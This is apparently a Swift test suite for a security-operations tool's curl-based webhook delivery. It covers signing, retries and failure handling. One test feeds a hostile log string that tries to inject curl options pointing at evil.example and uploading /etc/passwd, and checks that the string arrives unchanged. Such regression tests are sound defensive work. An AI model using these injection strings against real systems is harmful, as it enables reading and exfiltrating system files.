import Crypto
import Foundation
import Testing
import TobanCore
import TobanNotify
import TobanTestSupport

/// Webhooks posted through curl against the local HTTP listener: the body arrives byte for
/// byte as it was signed, whatever the log text in it; a 429's Retry-After reaches the
/// dispatcher; refusals are permanent; an unreachable server or a missing curl is a
/// temporary failure, so the notification waits instead of being lost.
@Suite("Webhooks through curl", .serialized)
struct WebhookCurlTests {
    static var curlAvailable: Bool { (try? Spawn.run(["/usr/bin/env", "curl", "--version"]).status) == 0 }
    static var ready: Bool { curlAvailable && NotifyDeliveryTests.pythonAvailable }

    static let at = Date(timeIntervalSince1970: 1_800_000_000)

    static func notification(target: String, subject: String = "★★★ P1 beacon", body: String = "10.0.0.10") -> CustomerNotification {
        CustomerNotification(id: 42, customerID: "acme", urgency: .p1, channel: .webhook, subject: subject, body: body,
                             dueAt: at, createdAt: at, target: target, messageID: "<42.toban@soc.example>")
    }

    static func transport(_ channel: WebhookChannel, program: String = "curl") -> WebhookTransport {
        WebhookTransport(channels: ["webhook:acme/\(channel.name)": channel], customers: [Customer(id: "acme", displayName: "Acme")],
                         timeout: 5, program: program)
    }

    static func sink(_ dir: TemporaryDirectory, _ name: String, script: String) throws -> NotifyDeliveryTests.Server {
        let server = try NotifyDeliveryTests.Server(script: "webhook_sink.py", directory: dir.file(name), arguments: ["--script", script])
        try #require(server.port > 0)
        return server
    }

    @Test("log text with quotes, backslashes, line breaks and curl's own syntax arrives as signed",
          .enabled(if: ready, "needs curl and python3"))
    func bodyArrivesAsSigned() throws {
        let dir = TemporaryDirectory(prefix: "toban-curl")
        let server = try Self.sink(dir, "exact", script: "200")
        let secret = "a secret of the SOC"
        let channel = WebhookChannel(name: "siem", url: "http://127.0.0.1:\(server.port)/hook?a=1&b=\"2\"", kind: .standard, secret: secret)
        // What an attacker may put in a log line, and so in a notification's text: quotes and
        // backslashes that would end a quoted value of curl's configuration, a line break that
        // would start an option of its own, curl's write-out and file syntax, and Japanese.
        let hostile = "ua=\"x\\\" \\\\\"\nurl = \"http://evil.example/\"\r\nupload-file = /etc/passwd\t%{http_code} @/etc/passwd 被疑端末"
        let n = Self.notification(target: "webhook:acme/siem", subject: "★★★ \(hostile)", body: hostile)
        let result = Self.transport(channel).deliver(n, items: [], at: Self.at)
        #expect(result == .delivered("HTTP 200: 200"), "\(result)")
        let requests = try server.records("req")
        try #require(requests.count == 1)
        #expect(requests[0]["path"] as? String == "/hook?a=1&b=%222%22" || requests[0]["path"] as? String == "/hook?a=1&b=\"2\"")
        let headers = try #require(requests[0]["headers"] as? [String: String])
        let encoded = try #require(requests[0]["body_base64"] as? String)
        let body = try #require(Data(base64Encoded: encoded))
        let id = try #require(headers["webhook-id"])
        let timestamp = try #require(headers["webhook-timestamp"])
        #expect(id == "42.toban@soc.example" && timestamp == "1800000000")
        var signed = Data("\(id).\(timestamp).".utf8)
        signed.append(body)
        let mac = HMAC<SHA256>.authenticationCode(for: signed, using: SymmetricKey(data: Data(secret.utf8)))
        #expect(headers["webhook-signature"] == "v1," + Data(mac).base64EncodedString())
        #expect(headers["content-type"] == "application/json" && headers["user-agent"] == "toban")
        #expect(headers["expect"] == nil)
        let json = try #require(try JSONSerialization.jsonObject(with: body) as? [String: Any])
        let data = try #require(json["data"] as? [String: Any])
        #expect(data["body"] as? String == hostile)
        #expect(data["subject"] as? String == "★★★ \(hostile)")
        // Nothing else was asked of curl: no second request, no file read or written.
        #expect(!FileManager.default.fileExists(atPath: dir.file("exact") + "/req-2.json"))
    }

    @Test("429 with Retry-After is retried when the server asks; 5xx retried; 4xx permanent",
          .enabled(if: ready, "needs curl and python3"))
    func statuses() throws {
        let dir = TemporaryDirectory(prefix: "toban-curl")
        let server = try Self.sink(dir, "statuses", script: "429:7,503,410,204")
        let transport = Self.transport(WebhookChannel(name: "chat", url: "http://127.0.0.1:\(server.port)/slack", kind: .slack))
        let n = Self.notification(target: "webhook:acme/chat")
        #expect(transport.deliver(n, items: [], at: Self.at) == .temporary("HTTP 429: 429", retryAfter: 7))
        #expect(transport.deliver(n, items: [], at: Self.at) == .temporary("HTTP 503: 503", retryAfter: nil))
        #expect(transport.deliver(n, items: [], at: Self.at) == .permanent("HTTP 410: 410"))
        #expect(transport.deliver(n, items: [], at: Self.at) == .delivered("HTTP 204"))
        let bodies = try server.records("req").compactMap { ($0["body_base64"] as? String).flatMap { Data(base64Encoded: $0) } }
        #expect(bodies.count == 4)
        let text = try #require(try JSONSerialization.jsonObject(with: bodies[0]) as? [String: String])
        #expect(text == ["text": "★★★ P1 beacon\n10.0.0.10"])
    }

    @Test("no server, no curl, or a URL that is not HTTP: nothing is lost",
          .enabled(if: curlAvailable, "needs curl"))
    func failures() throws {
        // A port nothing listens on: bound, then closed.
        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
        var address = sockaddr_in(sin_family: sa_family_t(AF_INET), sin_port: 0, sin_addr: in_addr(s_addr: inet_addr("127.0.0.1")),
                                  sin_zero: (0, 0, 0, 0, 0, 0, 0, 0))
        var length = socklen_t(MemoryLayout<sockaddr_in>.size)
        _ = withUnsafePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, length) } }
        _ = withUnsafeMutablePointer(to: &address) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) } }
        let port = Int(UInt16(bigEndian: address.sin_port))
        close(fd)
        let n = Self.notification(target: "webhook:acme/siem")
        let refused = Self.transport(WebhookChannel(name: "siem", url: "http://127.0.0.1:\(port)/hook")).deliver(n, items: [], at: Self.at)
        guard case .temporary(let why, nil) = refused else { Issue.record("\(refused)"); return }
        #expect(why.hasPrefix("siem: curl exit 7"), "\(why)")
        let missing = Self.transport(WebhookChannel(name: "siem", url: "http://127.0.0.1:\(port)/hook"), program: "/nonexistent/curl")
            .deliver(n, items: [], at: Self.at)
        guard case .temporary(let reason, nil) = missing else { Issue.record("\(missing)"); return }
        #expect(reason.hasPrefix("siem: cannot run /nonexistent/curl"), "\(reason)")
        let file = Self.transport(WebhookChannel(name: "siem", url: "file:///etc/passwd")).deliver(n, items: [], at: Self.at)
        #expect(file == .permanent("siem: not a usable http(s) URL"))
    }
}
